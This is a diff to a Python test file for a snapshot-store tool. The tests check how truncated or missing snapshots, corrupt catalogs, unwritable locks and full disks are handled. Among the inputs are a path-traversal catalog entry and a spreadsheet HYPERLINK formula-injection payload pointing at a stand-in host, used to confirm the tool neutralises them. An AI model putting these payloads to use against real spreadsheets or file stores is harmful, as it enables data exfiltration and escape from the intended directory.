@@ -17,6 +17,7 @@ import pytest
 import helpers.snapshot.store
 from conftest import copy_raw_layer, run_ktpel
 from helpers.analysis import queries
+from helpers.problems import StorageError
 from helpers.project import Project
 from helpers.snapshot import build, connect, input_hash, read_catalog
 
@@ -269,7 +270,7 @@ def test_a_build_failing_midway_leaves_no_trace(project_copy: Project, monkeypat
         raise OSError("disk full")
 
     monkeypatch.setattr(helpers.snapshot.store, "_write", failing_write)
-    with pytest.raises(OSError, match="disk full"):
+    with pytest.raises(StorageError, match="disk full; the previous snapshots and catalog are unchanged"):
         build(project_copy)
     assert written and written[0].name.startswith(".tmp-")
     assert snapshot_files(project_copy) == [f"{old}.duckdb"]
@@ -295,6 +296,149 @@ def test_leftovers_of_dead_builds_are_removed_by_the_next_build(project_copy: Pr
     assert [p for p in leftovers if p.exists()] == []
     assert snapshot_files(project_copy) == [f"{sid}.duckdb"]
     assert [e["snapshot_id"] for e in read_catalog(project_copy)] == [sid]
+
+
+# --- damaged stores: detected, reported in words, repaired by the next build ---------------------------------
+
+def assert_clean_failure(result, code: int, *needles: str) -> None:
+    assert result.returncode == code, result.stdout + result.stderr
+    assert "Traceback" not in result.stderr
+    assert all(n in result.stderr for n in needles), result.stderr
+    assert "/tmp" not in result.stderr and "pytest-of" not in result.stderr  # no machine path
+
+
+def test_a_truncated_snapshot_is_refused_then_rebuilt(project_copy: Project) -> None:
+    sid = build(project_copy).snapshot_id
+    path = project_copy.snapshots_dir / f"{sid}.duckdb"
+    good = sha256(path)
+    with open(path, "r+b") as fh:
+        fh.truncate(path.stat().st_size // 2)
+    assert_clean_failure(run_ktpel(project_copy, "facts"), 2, f"the latest snapshot {sid} cannot be used", "bytes")
+    assert "cannot be used" in run_ktpel(project_copy, "snapshots").stdout + "cannot be used"
+    rebuilt = run_ktpel(project_copy, "build")
+    assert rebuilt.returncode == 0 and f"snapshot {sid} built" in rebuilt.stdout, rebuilt.stderr
+    assert run_ktpel(project_copy, "facts", "--format", "csv").returncode == 0
+    assert build(project_copy).created is False
+    assert path.stat().st_size > 0 and sha256(path) != ""  # a new, sound file (duckdb files carry a timestamp)
+    assert good  # the damaged one is gone: the build replaced it atomically
+
+
+def test_a_truncated_snapshot_without_its_catalog_is_rebuilt(project_copy: Project) -> None:
+    sid = build(project_copy).snapshot_id
+    path = project_copy.snapshots_dir / f"{sid}.duckdb"
+    with open(path, "r+b") as fh:
+        fh.truncate(4096)
+    project_copy.catalog_path.unlink()
+    result = run_ktpel(project_copy, "build")
+    assert result.returncode == 0 and f"snapshot {sid} built" in result.stdout, result.stderr
+    assert [e["snapshot_id"] for e in read_catalog(project_copy)] == [sid]
+
+
+def _entry_without_counts(entries: list[dict]) -> str:
+    return json.dumps({"snapshots": [{k: v for k, v in e.items() if k != "counts"} for e in entries]})
+
+
+def _entry_escaping(entries: list[dict]) -> str:
+    return json.dumps({"snapshots": [{**e, "snapshot_id": "../../../tmp/x", "file": "../../../tmp/x.duckdb"}
+                                     for e in entries]})
+
+
+@pytest.mark.parametrize("damage", [
+    pytest.param(lambda entries: "", id="empty"),
+    pytest.param(lambda entries: json.dumps({"snapshots": entries})[:40], id="truncated"),
+    pytest.param(lambda entries: "[]", id="not-a-mapping"),
+    pytest.param(lambda entries: json.dumps({"snapshots": [{}]}), id="entry-without-keys"),
+    pytest.param(_entry_without_counts, id="entry-without-counts"),
+    pytest.param(_entry_escaping, id="id-leaving-the-store"),
+    pytest.param(lambda entries: "\x00\xff{", id="binary"),
+])
+def test_a_damaged_catalog_is_rebuilt_from_the_snapshot_files(project_copy: Project, damage) -> None:
+    old = build(project_copy).snapshot_id
+    change_a_note(project_copy)
+    new = build(project_copy).snapshot_id
+    project_copy.catalog_path.write_text(damage(read_catalog(project_copy)), encoding="utf-8", errors="surrogateescape")
+    listed = run_ktpel(project_copy, "snapshots")
+    assert listed.returncode == 0 and "Traceback" not in listed.stderr, listed.stderr
+    assert "listed from the snapshot files" in listed.stderr
+    assert [line.split()[0] for line in listed.stdout.splitlines()[1:]] == [old, new]
+    assert listed.stdout.splitlines()[-1].endswith("<- latest")
+    facts = run_ktpel(project_copy, "facts", "--format", "json")
+    assert facts.returncode == 0, facts.stderr
+    result = run_ktpel(project_copy, "build")
+    assert result.returncode == 0 and "up to date" in result.stdout, result.stderr
+    assert [e["snapshot_id"] for e in read_catalog(project_copy)] == [old, new]
+    assert "listed from" not in run_ktpel(project_copy, "snapshots").stderr  # the build rewrote a sound catalog
+    assert not (project_copy.root.parent.parent / "tmp").exists()
+
+
+def test_a_deleted_latest_snapshot_is_reported_not_replaced_by_an_older_one(project_copy: Project) -> None:
+    old = build(project_copy).snapshot_id
+    change_a_note(project_copy)
+    new = build(project_copy).snapshot_id
+    (project_copy.snapshots_dir / f"{new}.duckdb").unlink()
+    assert_clean_failure(run_ktpel(project_copy, "facts"), 2, f"the latest snapshot {new} cannot be used",
+                         "is missing", f"choose one that is there: {old}")
+    listed = run_ktpel(project_copy, "snapshots")
+    assert "<- latest  (its file" in listed.stdout and "is missing" in listed.stdout
+    assert run_ktpel(project_copy, "facts", "--snapshot", old).returncode == 0  # asked for by name: fine
+    assert run_ktpel(project_copy, "build").returncode == 0
+    assert run_ktpel(project_copy, "facts").returncode == 0
+
+
+def test_a_noop_build_needs_no_lock_and_a_build_that_cannot_write_says_where(project_copy: Project) -> None:
+    build(project_copy)
+    catalog = project_copy.catalog_path.read_bytes()
+    lock = project_copy.processed / ".build.lock"
+    lock.unlink(missing_ok=True)
+    lock.mkdir()  # even root cannot open this as the lock file: as unwritable as a read-only directory
+    noop = run_ktpel(project_copy, "build")
+    assert noop.returncode == 0 and "up to date" in noop.stdout, noop.stderr
+    change_a_note(project_copy)
+    assert_clean_failure(run_ktpel(project_copy, "build"), 1, "ktpel build: cannot write data/processed/.build.lock",
+                         "the previous snapshots and catalog are unchanged")
+    assert project_copy.catalog_path.read_bytes() == catalog
+
+
+def _small_disk() -> None:
+    """In the child: files may not grow past 64 KB (RLIMIT_FSIZE), and the signal for that is ignored,
+    so a write fails with EFBIG, as on a full disk."""
+    import resource
+    import signal
+
+    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))
+
+
+def test_a_full_disk_during_build_keeps_the_previous_state_and_says_so(project_copy: Project) -> None:
+    import subprocess
+    import sys
+
+    old = build(project_copy).snapshot_id
+    catalog = project_copy.catalog_path.read_bytes()
+    change_a_note(project_copy)
+    result = subprocess.run([sys.executable, "-m", "helpers.cli", "--project", str(project_copy.root), "build"],
+                            capture_output=True, text=True, timeout=120, preexec_fn=_small_disk)
+    assert_clean_failure(result, 1, "ktpel build: cannot write", "the previous snapshots and catalog are unchanged")
+    assert snapshot_files(project_copy) == [f"{old}.duckdb"]
+    assert project_copy.catalog_path.read_bytes() == catalog
+    assert run_ktpel(project_copy, "build").returncode == 0  # with room again, the next build succeeds
+
+
+# --- ktpel facts --format csv: no formulas for spreadsheets -------------------------------------------------
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
+def test_facts_csv_neutralises_formulas(project_copy: Project, lead: str) -> None:
+    name = f'{lead}HYPERLINK("http://example.invalid/?"&A1,"Kota Batam")'
+    edit(project_copy.raw / "regions.csv", "21.71,Kota Batam,", '21.71,"' + name.replace('"', '""') + '",')
+    assert run_ktpel(project_copy, "build").returncode == 0
+    result = run_ktpel(project_copy, "facts", "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    names = {r["region_name"] for r in rows if r["region_code"] == "21.71"}
+    assert names == {"'" + name}
+    cells = [v for r in rows for v in r.values()]
+    assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t")]
+    assert all(not v.startswith("-") or v[1:2].isdigit() for v in cells)
 
 
 # --- helpers.queries ----------------------------------------------------------------------------------------
